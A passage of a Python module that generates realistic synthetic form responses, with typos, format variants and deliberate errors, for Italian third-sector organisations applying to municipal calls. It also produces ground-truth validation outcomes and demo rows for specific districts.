    return f"{local}@{rng.choice(MAIL_PROVIDERS)}"


def _make_organisations(ctx: _Context, count: int) -> list[_Org]:
    orgs: list[_Org] = []
    rng = ctx.rng
    while len(orgs) < count:
        sibling = None
        if orgs and rng.random() < 0.06:
            candidates = [o for o in orgs[-30:] if o.head == "" and o.form.key != "coop"]
            if candidates:
                sibling = rng.choice(candidates)
        orgs.append(_make_org(ctx, len(orgs), orgs, sibling))
    return orgs


# Spelling noise --------------------------------------------------------------------------------------------


def _typo(rng: random.Random, text: str) -> str:
    words = text.split(" ")
    candidates = [i for i, w in enumerate(words) if len(w) >= 5 and w.isalpha()]
    if not candidates:
        return text
    i = rng.choice(candidates)
    w = words[i]
    j = rng.randrange(1, len(w) - 1)
    op = rng.randrange(4)
    if op == 0:
        w = w[:j] + w[j + 1] + w[j] + w[j + 2 :]
    elif op == 1:
        w = w[:j] + w[j + 1 :]
    elif op == 2:
        w = w[:j] + w[j] + w[j:]
    else:
        letter = rng.choice(_TYPO_NEIGHBOURS)
        w = w[:j] + (letter.upper() if w[j].isupper() else letter) + w[j + 1 :]
    words[i] = w
    return " ".join(words)


def _drop_article(core: str) -> str:
    for article in _ARTICLES:
        if core.startswith(article):
            rest = core[len(article) :]
            return rest[:1].upper() + rest[1:]
    return core


def _name(rng: random.Random, org: _Org, noise: float) -> str:
    """The organisation's name as typed in one response; `noise` scales how much it strays."""

    def chance(p: float) -> bool:
        return rng.random() < p * noise

    core = org.cores[0]
    if len(org.cores) > 1 and chance(0.2):
        core = rng.choice(org.cores[1:])
    head = org.head
    if org.bare != chance(0.1):
        core = _drop_article(core)
    if head == "Associazione" and chance(0.1):
        head = ""
    if chance(0.1):
        core = _typo(rng, core)
    base = f"{head} {core}".strip()
    if chance(0.12):
        opening, closing = rng.choice((("«", "»"), ('"', '"'), ("\u201c", "\u201d")))
        base = (
            f"{head} {opening}{core}{closing}".strip()
            if head and rng.random() < 0.5
            else (f"{opening}{base}{closing}")
        )
    suffix = org.suffix
    if chance(0.25):
        suffix = rng.choice(org.form.suffixes)
    prefix = rng.choice(org.form.prefixes) if org.form.prefixes and chance(0.08) else ""
    if prefix and not (prefix.startswith("Associazione") and "Associazione" in base):
        text = f"{prefix} {base}"
    else:
        text = f"{base} {suffix}".strip()
    if chance(0.15) and re.search(r"[àèéìòù]", text):
        plain = rng.random() < 0.5
        text = re.sub(r"[àèéìòù]", lambda m: _fold(m.group(0)) + ("" if plain else "'"), text)
    if "'" in text and chance(0.1):
        text = text.replace("'", "\u2019")
    if chance(0.12):
        text = text.upper() if rng.random() < 0.65 else text.lower()
    if chance(0.08):
        text = "  " + text.replace(" ", "  ", 1) + " "
    return text


def _tax_code(rng: random.Random, org: _Org, noise: float) -> str:
    code = org.tax_codes[0]
    if len(org.tax_codes) > 1 and rng.random() < 0.3 * noise:
        code = org.tax_codes[1]  # the partita IVA typed instead of the codice fiscale
    if org.personal_code:
        return code.lower() if rng.random() < 0.1 * noise else code
    r = rng.random() / max(noise, 0.01)
    if r < 0.08:
        return " " + code
    if r < 0.16:
        return "IT" + code
    if r < 0.24:
        return f"{code[:3]} {code[3:7]} {code[7:]}"
    if r < 0.26:
        return f"IT {code}"
    if r < 0.28:
        return f"{code[:2]}.{code[2:5]}.{code[5:8]}.{code[8:]}"
    return code


def _comune(rng: random.Random, ctx: _Context, org: _Org, noise: float) -> str:
    text = org.comune
    if len(org.comune_spellings) > 1 and rng.random() < 0.15 * noise:
        text = rng.choice(org.comune_spellings[1:])
    r = rng.random() / max(noise, 0.01)
    if r < 0.1:
        return text.upper()
    if r < 0.18:
        return text.lower() + " "
    if r < 0.3:
        return f"{text} ({org.province if rng.random() < 0.7 else ctx.ambito.province})"
    return text


def _misspelt_comune(rng: random.Random, name: str) -> str:
    words = name.split(" ")
    letters_only = [k for k, w in enumerate(words) if w.isalpha() and len(w) >= 4]
    if not letters_only:
        return name + "o"
    i = max(letters_only, key=lambda k: len(words[k]))
    w = words[i]
    j = rng.randrange(1, len(w) - 1)
    words[i] = w[:j] + w[j] + w[j:]  # a doubled letter ("Sonccino")
    return " ".join(words)


def _phone_variant(rng: random.Random, phone: str, noise: float) -> str:
    r = rng.random() / max(noise, 0.01)
    if r < 0.06:
        return phone.replace(" ", "")
    if r < 0.1:
        return phone.replace(" ", "/", 1)
    if r < 0.14:
        return "+39 " + phone
    return phone


def _address_variant(rng: random.Random, address: str, noise: float) -> str:
    r = rng.random() / max(noise, 0.01)
    m = re.fullmatch(r"(.*\D) (\d+)", address)
    if not m:
        return address
    if r < 0.08:
        return f"{m.group(1)}, {m.group(2)}"
    if r < 0.12:
        return f"{m.group(1).lower()} {m.group(2)}"
    if r < 0.15:
        return f"{m.group(1)} n. {m.group(2)}"
    return address


# Rows ------------------------------------------------------------------------------------------------------


@dataclass(slots=True)
class _Outcome:
    cells: list[str]
    reasons: list[str]
    warnings: list[str]


def _render(ctx: _Context, row: _Row) -> _Outcome:
    """One response row's cells and the codes the product's rules give it."""
    rng, org, ambito = ctx.rng, row.org, ctx.ambito
    noise = 0.45 if row.seq == 0 else 1.0
    repeat = row.seq > 0
    person, email, phone = org.person, org.email, org.phone
    if repeat and rng.random() < 0.15:
        # a new contact person: name and phone change; a personal email follows the person
        person = _person(rng)
        phone = _phone(ctx, org.province)
        if org.personal_email:
            email = _personal_email(rng, person)
    if rng.random() < 0.12 * noise:
        email = email.upper()
    name = _name(rng, org, noise)
    tax_state = "ok"
    if not org.tax_codes:
        tax = ""
        tax_state = "missing"
    elif not ambito.tax_code_required and rng.random() < 0.04:
        tax, tax_state = "", "missing"  # left blank where the avviso does not ask for it
    else:
        tax = _tax_code(rng, org, noise)
        tax_state = "persona" if org.personal_code else "ok"
    comune = _comune(rng, ctx, org, noise)
    comune_state = "in" if org.in_ambito else "out"
    if org.in_ambito and rng.random() < 0.007:
        comune, comune_state = _misspelt_comune(rng, org.comune), "unknown"
    runts = org.runts
    if runts and rng.random() < 0.02:
        runts = ""
    elif runts and rng.random() < 0.06:
        runts = rng.choice(("n. ", "Rep. ", "RUNTS ")) + runts
    areas = org.areas
    if repeat and rng.random() < 0.4:
        areas = _areas(rng, len(ctx.areas))
    area_text = ", ".join(ctx.areas[i] for i in areas)
    if row.late:
        phases = ctx.late_phases
    elif not ctx.phases:
        phases = ""
    else:
        p = rng.random()
        if p < 0.75:
            phases = ", ".join(ctx.phases)
        elif p < 0.95:
            k = rng.randint(1, len(ctx.phases))
            phases = ", ".join(ctx.phases[i] for i in sorted(rng.sample(range(len(ctx.phases)), k)))
        else:
            phases = ""
    experience = org.experience
    if repeat and rng.random() < 0.2:
        experience = "" if rng.random() < 0.3 else rng.choice(_EXPERIENCE)
    pec = org.pec
    pec_bad = False
    if pec and rng.random() < 0.005:
        local, _, domain = pec.partition("@")
        pec, pec_bad = f"{local}@{domain.split('.')[0]}", True  # "nome@pec": no top-level domain
    consent = CONSENT
    name_blank = test = email_bad = False
    consent_blank = no_area = False
    for problem in row.problems:
        if problem == "consent":
            consent, consent_blank = "", True
        elif problem == "name":
            name, name_blank = rng.choice(("", "   ", " ")), True
        elif problem == "areas":
            area_text, no_area = "", True
        elif problem == "email":
            email_bad = True
            first, _, last = person.partition(" ")
            f, sur = _slug(first), _slug(last)
            email = rng.choice(
                (
                    f"{f}.{sur}@gmail",
                    f"{f} {sur}@libero.it",
                    "",
                    f"{f}.{sur}.libero.it",
                    f"{f}.{sur}@gmail..com",
                )
            )
        elif problem == "test":
            test = True
            word = rng.choice(ctx.test_words) if ctx.test_words else _TEST_NAME_FALLBACK
            name = rng.choice((word, word.upper(), word.capitalize()))
            if ctx.test_emails and rng.random() < 0.4:
                email = rng.choice(ctx.test_emails)
        elif problem == "cf_invalid":
            tax_state = "invalid"
            tax = _invalid_code(rng, org)
        elif problem == "cf_missing":
            tax, tax_state = "", "missing"
    timestamp = (ambito.opens + timedelta(seconds=row.at)).strftime("%d/%m/%Y %H.%M.%S")
    values = {
        "timestamp": timestamp,
        "email": email,
        "name": name,
        "tax_code": tax,
        "legal_form": org.form.label,
        "runts": runts,
        "comune": comune,
        "address": _address_variant(rng, org.address, noise),
        "contact_name": person,
        "phone": _phone_variant(rng, phone, noise),
        "pec": pec,
        "areas": area_text,
        "phases": phases,
        "experience": experience,
        "consent": consent,
    }
    # codes in the order the validator reports them
    required = ambito.tax_code_required
    blocking: list[str] = []
    warnings: list[str] = []
    if test:
        blocking.append("invio_di_prova")
    if name_blank:
        blocking.append("denominazione_mancante")
    if consent_blank:
        blocking.append("consenso_mancante")
    if no_area:
        blocking.append("nessuna_area")
    if email_bad:
        blocking.append("email_non_valida")
    tax_codes = {"missing": "cf_mancante", "invalid": "cf_non_valido"}
    if tax_state in tax_codes:
        (blocking if required else warnings).append(tax_codes[tax_state])
    elif tax_state == "persona":
        warnings.append("cf_persona_fisica")
    if comune_state == "unknown":
        warnings.append("comune_sconosciuto")
    elif comune_state == "out":
        warnings.append("comune_fuori_ambito")
    if ambito.runts_required and not runts:
        warnings.append("runts_mancante")
    if pec_bad:
        warnings.append("pec_non_valida")
    if row.late:
        warnings.append("oltre_scadenza")
    if test:
        blocking = ["invio_di_prova"]  # a test is reported as such, not as a list of missing answers
    return _Outcome([values[f] for f in FIELDS], blocking, warnings)


def _invalid_code(rng: random.Random, org: _Org) -> str:
    """A tax code that fails validation: wrong check digit, digits missing, a letter O, or a phrase."""
    if not org.tax_codes:
        return rng.choice(("non disponibile", "in attesa di attribuzione", "0"))
    code = org.tax_codes[0]
    r = rng.random()
    if r < 0.4:
        if org.personal_code:
            wrong = chr(ord("A") + (ord(code[-1]) - ord("A") + rng.randint(1, 25)) % 26)
        else:
            wrong = str((int(code[-1]) + rng.randint(1, 9)) % 10)
        return code[:-1] + wrong
    if r < 0.65:
        return code[:9] if rng.random() < 0.6 else code[:5] + code[6:]
    if r < 0.8 and "0" in code[1:]:
        i = code.index("0", 1)
        return code[:i] + "O" + code[i + 1 :]
    return rng.choice(("non disponibile", "in corso di attribuzione", "N.D."))


def _schedule(ctx: _Context, rows_by_org: list[list[_Row]]) -> None:
    """Submission times: on-time rows inside the window (more near the deadline), late rows after it."""
    rng = ctx.rng
    window = int((ctx.ambito.deadline - ctx.ambito.opens).total_seconds())
    day = 86_400
    for rows in rows_by_org:
        t = -1
        for row in rows:
            if row.late:
                # the first late answer comes days or weeks after the deadline; later ones follow it
                gap = int(min(rng.expovariate(1 / (20 * day)), 150 * day)) if t < window else _gap(rng)
                t = max(t, window) + 1 + gap
            elif t < 0:
                # many answers arrive in the last days before the deadline
                near_deadline = int(window * rng.triangular(0.7, 1.0, 1.0))
                t = rng.randint(0, window) if rng.random() < 0.55 else near_deadline
            else:
                nxt = t + _gap(rng)
                t = nxt if nxt <= window else t + int((window - t) * rng.random())
            row.at = t


def _gap(rng: random.Random) -> int:
    if rng.random() < 0.35:
        return rng.randint(120, 6 * 3600)  # a correction the same day
    return rng.randint(86_400, 25 * 86_400)


def generate(
    ambito: Ambito,
    organisations: int = 300,
    *,
    seed: int = 1,
    late_share: float = 0.15,
    problem_share: float = 0.06,
    repeat_share: float = 0.3,
) -> DemoSet:
    """Generate a realistic set of form responses for the Ambito, with the expected outcome of every row."""
    if organisations < 0:
        raise ValueError("organisations must be >= 0")
    for label, share in (
        ("late_share", late_share),
        ("problem_share", problem_share),
        ("repeat_share", repeat_share),
    ):
        if not 0.0 <= share <= 1.0:
            raise ValueError(f"{label} must be between 0 and 1, not {share}")
    rng = random.Random(seed)
    ctx = _context(ambito, rng)
    orgs = _make_organisations(ctx, organisations)
    repeaters = set(rng.sample(range(len(orgs)), round(repeat_share * len(orgs))))
    rows_by_org: list[list[_Row]] = []
    for org in orgs:
        n = (2 if rng.random() < 0.78 else 3) if org.index in repeaters else 1
        rows_by_org.append([_Row(org, seq) for seq in range(n)])
    flat = [row for rows in rows_by_org for row in rows]
    # late rows: exactly late_share of all rows, always an organisation's last ones
    late_count: dict[int, int] = {}
    for i in rng.sample(range(len(flat)), round(late_share * len(flat))):
        late_count[flat[i].org.index] = late_count.get(flat[i].org.index, 0) + 1
    for rows in rows_by_org:
        k = late_count.get(rows[0].org.index, 0)
        for row in rows[len(rows) - k :] if k else ():
            row.late = True
    _schedule(ctx, rows_by_org)
    kinds = [k for k, _ in _PROBLEMS if k != "test" or ctx.test_words]
    weights = [w for k, w in _PROBLEMS if k != "test" or ctx.test_words]
    for i in rng.sample(range(len(flat)), round(problem_share * len(flat))):
        row = flat[i]
        first = rng.choices(kinds, weights=weights)[0]
        row.problems.append(first)
        if first != "test" and rng.random() < 0.1:
            second = rng.choices(kinds, weights=weights)[0]
            if second not in {first, "test"} and {first, second} != {"cf_invalid", "cf_missing"}:
                row.problems.append(second)
    rendered = [(row, _render(ctx, row)) for row in flat]
    rendered.sort(key=lambda item: (item[0].at, item[0].org.index, item[0].seq))
    cells: list[list[str]] = []
    truth: list[dict[str, str]] = []
    for n, (row, out) in enumerate(rendered, start=2):
        cells.append(out.cells)
        truth.append(
            {
                "row": str(n),
                "entity": row.org.entity,
                "expected": "rejected" if out.reasons else "accepted",
                "reasons": ";".join(out.reasons),
                "warnings": ";".join(out.warnings),
            }
        )
    header = [getattr(ambito.questions, f)[0] for f in FIELDS]
    return DemoSet(header=header, rows=cells, truth=truth)


def to_csv_text(demo: DemoSet) -> str:
    """The responses as a Google Forms CSV export: RFC 4180, every field quoted, CRLF line ends."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow(demo.header)
    writer.writerows(demo.rows)
    return buffer.getvalue()


def truth_csv_text(demo: DemoSet) -> str:
    """The ground truth in the development sets' format: `row,entity,expected,reasons,warnings`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(_CODE_KEYS)
    writer.writerows([t[k] for k in _CODE_KEYS] for t in demo.truth)
    return buffer.getvalue()


def summary(demo: DemoSet) -> dict[str, int]:
    """Figures of a generated set: rows, organisations, repeats, rejected and late rows, rows per code."""
    per_entity: dict[str, int] = {}
    for t in demo.truth:
        per_entity[t["entity"]] = per_entity.get(t["entity"], 0) + 1
    out = {
        "rows": len(demo.rows),
        "organisations": len(per_entity),
        "repeating_organisations": sum(1 for n in per_entity.values() if n > 1),
        "rejected": sum(1 for t in demo.truth if t["expected"] == "rejected"),
    }
    codes: dict[str, int] = {}
    for t in demo.truth:
        for kind, prefix in (("reasons", "reason"), ("warnings", "warning")):
            for code in filter(None, t[kind].split(";")):
                key = f"{prefix}:{code}"
                codes[key] = codes.get(key, 0) + 1
    out.update(sorted(codes.items()))
    return out


# What each Ambito's demo shows beyond the generated responses (issue 14) -------------------------------------

# (name, legal form, comune, area number, e-mail user) — bodies whose category the demo is there to show
_EXTRA_FORM: dict[str, tuple[tuple[str, str, str, int, str], ...]] = {
    # Crema admits only ETS: a union applying is flagged `ente_non_ets` for staff to decide
    "crema": (("CGIL Camera del Lavoro di Crema", "Organizzazione sindacale", "Crema", 2, "crema.cgil"),),
    # Cernusco invites public bodies too: they apply like everyone else
    "cernusco": (
        ("Comune di Pioltello - Settore Servizi Sociali", "", "Pioltello", 0, "servizi.sociali"),
        ("Istituto Comprensivo Statale di Gorgonzola", "", "Gorgonzola", 0, "segreteria.ic"),
        ("ASST Melegnano e della Martesana", "", "Cernusco sul Naviglio", 1, "distretto.adda"),
    ),
}
# (name, legal form, comune, area number, protocol) — Allegato 1 received by PEC, typed in `Domande manuali`
_EXTRA_MANUAL: dict[str, tuple[tuple[str, str, str, int, str], ...]] = {
    "cernusco": (
        (
            "Cooperativa Sociale Il Melograno",
            "Impresa sociale - cooperativa sociale",
            "Carugate",
            1,
            "2019/18231",
        ),
        (
            "Associazione Genitori Insieme APS",
            "Associazione di promozione sociale (APS)",
            "Bussero",
            0,
            "2019/18547",
        ),
        (
            "Parrocchia Santa Maria Assunta",
            "Ente religioso civilmente riconosciuto",
            "Gessate",
            2,
            "2019/18802",
        ),
    ),
}


@dataclass(frozen=True, slots=True)
class DemoExtras:
    """Rows a demo adds for its Ambito: form responses (form header order) and `Domande manuali` rows."""

    form_rows: list[list[str]]
    manual_rows: list[
        list[str]
    ]  # in `sync.manual.manual_header` order: the form's fields, Canale, Protocollo


def demo_extras(ambito: Ambito, *, seed: int = 1) -> DemoExtras:
    """The Ambito's showcase rows: a union applying to Crema, public bodies and PEC applications in Cernusco."""
    rng = random.Random(seed * 7919 + 14)
    ctx = _context(ambito, rng)
    span = max(1, int((ambito.deadline - ambito.opens).total_seconds() * 0.8))
    areas = [a.label for a in ambito.areas]

    def values(name: str, form: str, comune: str, area: int, email: str, pec: str, when: str) -> list[str]:
        person = _person(rng)
        by_field = {
            "timestamp": when,
            "email": email,
            "name": name,
            "tax_code": _new_code(ctx, "89", "015" if ambito.province == "MI" else "019"),
            "legal_form": form,
            "runts": "",
            "comune": comune,
            "address": f"{rng.choice(_STREETS)} {rng.randrange(1, 80)}",
            "contact_name": person,
            "phone": _phone(ctx, ambito.province),
            "pec": pec,
            "areas": areas[area % len(areas)],
            "phases": "",
            "experience": rng.choice(_EXPERIENCE),
            "consent": ambito.form.consent_label or CONSENT,
        }
        return [by_field[f] for f in FIELDS]

    form_rows = []
    for name, form, comune, area, user in _EXTRA_FORM.get(ambito.code, ()):
        at = ambito.opens + timedelta(seconds=rng.randrange(span))
        domain = _slug(name.split(" - ")[0])[:24] + ".it"
        form_rows.append(
            values(name, form, comune, area, f"{user}@{domain}", "", at.strftime("%d/%m/%Y %H.%M.%S"))
        )
    manual_rows = []
    for name, form, comune, area, protocol in _EXTRA_MANUAL.get(ambito.code, ()):
        at = ambito.opens + timedelta(seconds=rng.randrange(span))
        pec = f"{_slug(name)[:20]}@{rng.choice(PEC_DOMAINS)}"
        manual_rows.append(
            [*values(name, form, comune, area, "", pec, at.strftime("%d/%m/%Y")), "PEC", protocol]
        )
    return DemoExtras(form_rows, manual_rows)


def with_form_rows(demo: DemoSet, rows: list[list[str]]) -> DemoSet:
    """The demo's responses with more rows appended (without truth: the generated rows keep theirs)."""
    return DemoSet(header=demo.header, rows=[*demo.rows, *rows], truth=demo.truth) if rows else demo
